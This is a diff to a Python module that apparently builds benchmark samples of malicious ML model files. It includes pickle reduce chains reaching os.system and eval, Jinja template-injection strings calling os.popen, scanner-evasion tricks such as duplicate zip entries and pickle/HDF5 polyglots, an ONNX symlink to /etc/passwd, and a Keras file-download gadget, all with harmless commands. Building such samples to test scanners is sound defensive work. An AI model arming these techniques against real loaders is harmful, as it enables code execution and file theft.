@@ -1,9 +1,9 @@
 """The attack samples: bytes only, built by hand. Nothing here is ever unpickled, loaded or run.
 
-Every payload is harmless even if it did run: ``os.system("true")``, ``pip --version``, ``eval("0")``,
-a write to a canary path under /tmp. Each sample names the public report it reproduces (an
-advisory, an issue, a paper); where a report's exact PoC is not public, the sample rebuilds the
-technique it describes.
+Every payload is harmless even if it did run: ``os.system("true")``, ``pip --version``,
+``eval("0")``, a write to a canary path under /tmp. Each sample names the public report it
+reproduces (an advisory, an issue, a paper); where a report's exact PoC is not public, the sample
+rebuilds the technique it describes.
 
 A builder returns ``{file name: bytes}``; the sample is that file (or, with several files, the
 directory holding them).
@@ -197,9 +197,7 @@ def _pip() -> dict[str, bytes]:
 )
 def _asyncio() -> dict[str, bytes]:
     values: list[object] = [None, ["true"], False, None, None, None, 0]
-    return {
-        "model.pkl": _reached("asyncio.unix_events", "_UnixSubprocessTransport._start", values)
-    }
+    return {"model.pkl": _reached("asyncio.unix_events", "_UnixSubprocessTransport._start", values)}
 
 
 @attack("pkl-pydoc-locate", "pickle", "picklescan 2025 advisory: pydoc.locate('os.system')()")
@@ -218,12 +216,16 @@ def _pkgutil() -> dict[str, bytes]:
     return {"model.pkl": pk.whole(body, 4)}
 
 
-@attack("pkl-idlelib", "pickle", "GHSA-r8g5-cgf2-4m4m (picklescan): idlelib.calltip.get_entity evals")
+@attack(
+    "pkl-idlelib", "pickle", "GHSA-r8g5-cgf2-4m4m (picklescan): idlelib.calltip.get_entity evals"
+)
 def _idlelib() -> dict[str, bytes]:
     return {"model.pkl": _reached("idlelib.calltip", "get_entity", ["0"])}
 
 
-@attack("pkl-timeit", "pickle", "GHSA-v7x6-rv5q-mhwc (picklescan): timeit.timeit runs its statement")
+@attack(
+    "pkl-timeit", "pickle", "GHSA-v7x6-rv5q-mhwc (picklescan): timeit.timeit runs its statement"
+)
 def _timeit() -> dict[str, bytes]:
     return {"model.pkl": _reached("timeit", "timeit", ["pass"])}
 
@@ -309,7 +311,11 @@ def _attrgetter() -> dict[str, bytes]:
         + pk.REDUCE
     )
     eval_ = (
-        pk.call("_operator", "itemgetter", ["eval"], 2) + pk.MARK + builtins_of + pk.TUPLE + pk.REDUCE
+        pk.call("_operator", "itemgetter", ["eval"], 2)
+        + pk.MARK
+        + builtins_of
+        + pk.TUPLE
+        + pk.REDUCE
     )
     return {"model.pkl": pk.whole(eval_ + pk.args(["0"], 2) + pk.REDUCE, 2)}
 
@@ -576,7 +582,7 @@ def _pt_nonstandard() -> dict[str, bytes]:
     "pt-zip-encrypted-flag",
     "pytorch",
     "GHSA-w8jq-xcqf-f792 / CVE-2025-1945 (picklescan): 'encrypted' flag bit on data.pkl; "
-    "zipfile refuses it, PyTorch's reader ignores it",
+    "zipfile refuses it; the PyTorch of the advisory loaded it (torch 2.13 refuses it)",
 )
 def _pt_flag() -> dict[str, bytes]:
     member = Member("archive/data.pkl", evil_state_dict(), flags=0x1)
@@ -813,15 +819,41 @@ def _zip_precompressed(name: str, raw: bytes, crc: int, size: int) -> bytes:
     encoded = name.encode()
     local = (
         struct.pack(
-            "<4s5H3I2H", b"PK\x03\x04", 20, 0, DEFLATED, 0, 0x5C21, crc, len(raw), size,
-            len(encoded), 0,
+            "<4s5H3I2H",
+            b"PK\x03\x04",
+            20,
+            0,
+            DEFLATED,
+            0,
+            0x5C21,
+            crc,
+            len(raw),
+            size,
+            len(encoded),
+            0,
         )
         + encoded
     )
     central = (
         struct.pack(
-            "<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, DEFLATED, 0, 0x5C21, crc, len(raw), size,
-            len(encoded), 0, 0, 0, 0, 0o644 << 16, 0,
+            "<4s6H3I5H2I",
+            b"PK\x01\x02",
+            20,
+            20,
+            0,
+            DEFLATED,
+            0,
+            0x5C21,
+            crc,
+            len(raw),
+            size,
+            len(encoded),
+            0,
+            0,
+            0,
+            0,
+            0o644 << 16,
+            0,
         )
         + encoded
     )
@@ -887,7 +919,7 @@ def _st_shape() -> dict[str, bytes]:
 
 SSTI = (
     "{% for x in ().__class__.__base__.__subclasses__() %}"
-    "{% if \"warning\" in x.__name__ %}"
+    '{% if "warning" in x.__name__ %}'
     "{{ x()._module.__builtins__['__import__']('os').popen('true') }}"
     "{% endif %}{% endfor %}"
 )
@@ -954,7 +986,7 @@ def _gguf_named() -> dict[str, bytes]:
 @attack(
     "gguf-kv-count-overflow",
     "gguf",
-    "CVE-2024-25664..25666 / CVE-2024-21836 (Talos, llama.cpp GGUF parser): huge n_kv",
+    "GGUF parser overflow class (llama.cpp PR #19856 'gguf: prevent integer overflows'): huge n_kv",
 )
 def _gguf_kv() -> dict[str, bytes]:
     return {"model.gguf": b"GGUF" + struct.pack("<IQQ", 3, 1, 1 << 62) + bytes(64)}
@@ -963,7 +995,7 @@ def _gguf_kv() -> dict[str, bytes]:
 @attack(
     "gguf-string-length-overflow",
     "gguf",
-    "CVE-2024-21836 class (Talos): a key string whose length field is 2^63",
+    "llama.cpp PR #19856 ('prevent string exhaustion'): a key string whose length field is 2^63",
 )
 def _gguf_str() -> dict[str, bytes]:
     return {"model.gguf": b"GGUF" + struct.pack("<IQQQ", 3, 0, 1, 1 << 63) + b"general.name"}
@@ -1140,7 +1172,9 @@ def onnx_external(location: str) -> bytes:
     graph = helper.make_graph(
         [node], "g", [], [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [4])], [weight]
     )
-    model = helper.make_model(graph, producer_name="bench", opset_imports=[helper.make_opsetid("", 17)])
+    model = helper.make_model(
+        graph, producer_name="bench", opset_imports=[helper.make_opsetid("", 17)]
+    )
     model.ir_version = 8
     return model.SerializeToString()
 
@@ -1171,7 +1205,9 @@ def _onnx_abs() -> dict[str, bytes]:
 # --- extension lies --------------------------------------------------------------------------
 
 
-@attack("lie-safetensors", "ext-lie", "a pickle named model.safetensors (loaders sniff, users trust)")
+@attack(
+    "lie-safetensors", "ext-lie", "a pickle named model.safetensors (loaders sniff, users trust)"
+)
 def _lie_st() -> dict[str, bytes]:
     return {"model.safetensors": payload_pickle(4)}
 
@@ -1212,3 +1248,210 @@ def _lie_gguf() -> dict[str, bytes]:
 @attack("lie-txt-bz2", "ext-lie", "a bz2-compressed pickle named vocab.txt (joblib/pandas sniff)")
 def _lie_txt() -> dict[str, bytes]:
     return {"vocab.txt": bz2.compress(payload_pickle(2))}
+
+
+# --- harder cases: parser differentials, inline pickles, library gadgets -------------------------
+
+
+def zipfile_bytes(files: list[tuple[str, bytes]], method: int) -> bytes:
+    """A zip written by Python's own zipfile (for bzip2 / LZMA members), fixed timestamps."""
+    import zipfile
+
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w") as zf:
+        for name, data in files:
+            info = zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0))
+            info.compress_type = method
+            zf.writestr(info, data)
+    return buf.getvalue()
+
+
+@attack(
+    "jl-object-array-inline",
+    "joblib",
+    "joblib's NumpyArrayWrapper: an object-dtype array is stored as an inline pickle right after "
+    "the wrapper (joblib read_array pickle.loads it); scanners that skip array bytes skip it",
+)
+def _jl_object() -> dict[str, bytes]:
+    import os
+
+    import joblib
+    import numpy as np
+
+    arr = np.empty(2, dtype=object)
+    arr[0] = "label"
+    arr[1] = _Reduce(os.system, ("true",))
+    with tempfile.TemporaryDirectory() as tmp:
+        path = Path(tmp) / "model.joblib"
+        joblib.dump({"classes": arr, "coef": np.ones(4)}, path)
+        return {"model.joblib": path.read_bytes()}
+
+
+@attack(
+    "pt-zip-duplicate-name",
+    "pytorch",
+    "duplicate central-directory names (zip parser differential, cf. Android 'Master Key'): a "
+    "clean archive/data.pkl, then one with the payload; torch 2.13 loads the last (checked on a "
+    "benign pair), a scanner that keeps the first entry per name misses it",
+)
+def _pt_dup() -> dict[str, bytes]:
+    members = torch_zip_members(
+        state_dict(SMALL_SD), extra=[Member("archive/data.pkl", evil_state_dict())]
+    )
+    return {"model.pt": zip_bytes(members)}
+
+
+@attack(
+    "pt-pickle-before-zip",
+    "pytorch",
+    "torch.load only takes the zip path when byte 0 is 'PK'; a pickle followed by a clean torch "
+    "zip is unpickled from byte 0, while zipfile-based scanners see only the appended zip",
+)
+def _pt_prefixed() -> dict[str, bytes]:
+    clean = zip_bytes(torch_zip_members(state_dict(SMALL_SD)))
+    return {"model.pt": legacy_file(state_dict(SMALL_SD, extra=system(2), legacy=True)) + clean}
+
+
+@attack(
+    "npz-object-bzip2-member",
+    "numpy",
+    "numpy reads npz members through zipfile, which inflates bzip2 (method 12) members",
+)
+def _npz_bz2() -> dict[str, bytes]:
+    bad = npy_header("|O", (1,)) + payload_pickle(3)
+    return {"arrays.npz": zipfile_bytes([("meta.npy", bad)], 12)}
+
+
+@attack(
+    "npz-object-lzma-member",
+    "numpy",
+    "the same with an LZMA (method 14) member",
+)
+def _npz_lzma() -> dict[str, bytes]:
+    bad = npy_header("|O", (1,)) + payload_pickle(3)
+    return {"arrays.npz": zipfile_bytes([("meta.npy", bad)], 14)}
+
+
+@attack(
+    "npy-v2-object-array",
+    "numpy",
+    "object-dtype .npy with a version 2.0 header (4-byte header length)",
+)
+def _npy_v2() -> dict[str, bytes]:
+    v1 = npy_header("|O", (1,))
+    header = v1[10:]
+    v2 = b"\x93NUMPY\x02\x00" + struct.pack("<I", len(header) + 2) + header + b"  "
+    return {"embeddings.npy": v2 + payload_pickle(3)}
+
+
+@attack(
+    "polyglot-pickle-h5",
+    "archive",
+    "HDF5 with a 512-byte user block holding a pickle: h5py/Keras open it, pickle.load runs it",
+)
+def _polyglot_h5() -> dict[str, bytes]:
+    import h5py
+
+    buf = io.BytesIO()
+    with h5py.File(buf, "w", userblock_size=512) as f:
+        f.create_dataset("w", data=[1.0, 2.0])
+    data = bytearray(buf.getvalue())
+    pickle_bytes = payload_pickle(2)
+    data[: len(pickle_bytes)] = pickle_bytes
+    return {"model.h5": bytes(data)}
+
+
+# Library functions that an allowlist of "ML globals" may admit but that write files or fetch
+# and run code (arXiv 2508.19774's "risky function surface": gadgets in trusted libraries).
+
+
+@attack(
+    "pkl-gadget-numpy-save", "pickle", "arXiv 2508.19774 gadget class: numpy.save writes a file"
+)
+def _g_np_save() -> dict[str, bytes]:
+    return {"model.pkl": _reached("numpy", "save", [CANARY, [1, 2]], 2)}
+
+
+@attack(
+    "pkl-gadget-torch-save", "pickle", "arXiv 2508.19774 gadget class: torch.save writes a file"
+)
+def _g_torch_save() -> dict[str, bytes]:
+    return {"model.pkl": _reached("torch", "save", [{}, CANARY], 2)}
+
+
+@attack(
+    "pkl-gadget-torch-hub-load",
+    "pickle",
+    "arXiv 2508.19774 gadget class: torch.hub.load fetches and runs a repository's hubconf",
+)
+def _g_hub() -> dict[str, bytes]:
+    return {"model.pkl": _reached("torch.hub", "load", ["invalid/none", "x"], 2)}
+
+
+@attack(
+    "pkl-gadget-joblib-dump", "pickle", "arXiv 2508.19774 gadget class: joblib.dump writes a file"
+)
+def _g_joblib() -> dict[str, bytes]:
+    return {"model.pkl": _reached("joblib", "dump", [[1], CANARY], 2)}
+
+
+@attack(
+    "pkl-gadget-numpy-memmap",
+    "pickle",
+    "arXiv 2508.19774 gadget class: numpy.memmap(mode='w+') creates/truncates a file",
+)
+def _g_memmap() -> dict[str, bytes]:
+    return {"model.pkl": _reached("numpy", "memmap", [CANARY, "uint8", "w+", 0, (1,)], 2)}
+
+
+@attack(
+    "gguf-ssti-computed-names",
+    "gguf",
+    "CVE-2024-34359 with every dunder name computed at render time ('%c'|format(95) ~ ...)",
+)
+def _gguf_computed() -> dict[str, bytes]:
+    template = (
+        "{% set u = '%c'|format(95) ~ '%c'|format(95) %}"
+        "{% set g = u ~ 'glob' ~ 'als' ~ u %}"
+        "{{ (lipsum|attr(g))['o' ~ 's'].popen('true') }}"
+    )
+    return {"model.gguf": gguf_file({"tokenizer.chat_template": template})}
+
+
+@attack(
+    "onnx-external-symlink",
+    "onnx",
+    "CVE-2026-27489 (onnx <= 1.20.1, path traversal via symlink): a relative external-data "
+    "location that is a symlink to /etc/passwd (directory sample)",
+)
+def _onnx_symlink() -> dict[str, bytes]:
+    return {"model.onnx": onnx_external("weights.bin"), "weights.bin": SYMLINK + b"/etc/passwd"}
+
+
+SYMLINK = b"\0symlink\0"
+"""A file whose bytes start with this is written as a symlink to the rest (see build())."""
+
+
+@attack(
+    "keras-get-file",
+    "keras",
+    "CVE-2025-8747 (Keras < 3.11): a Lambda whose function is keras.utils.get_file, with the "
+    "download URL and target in its arguments",
+)
+def _keras_get_file() -> dict[str, bytes]:
+    layer = {
+        "module": "keras.layers",
+        "class_name": "Lambda",
+        "config": {
+            "name": "fetch",
+            "function": {
+                "module": "keras.utils",
+                "class_name": "function",
+                "config": "get_file",
+                "registered_name": "function",
+            },
+            "arguments": {"origin": "http://127.0.0.1:9/payload.tar.gz", "fname": CANARY},
+        },
+        "registered_name": None,
+    }
+    return {"model.keras": keras_archive([layer])}
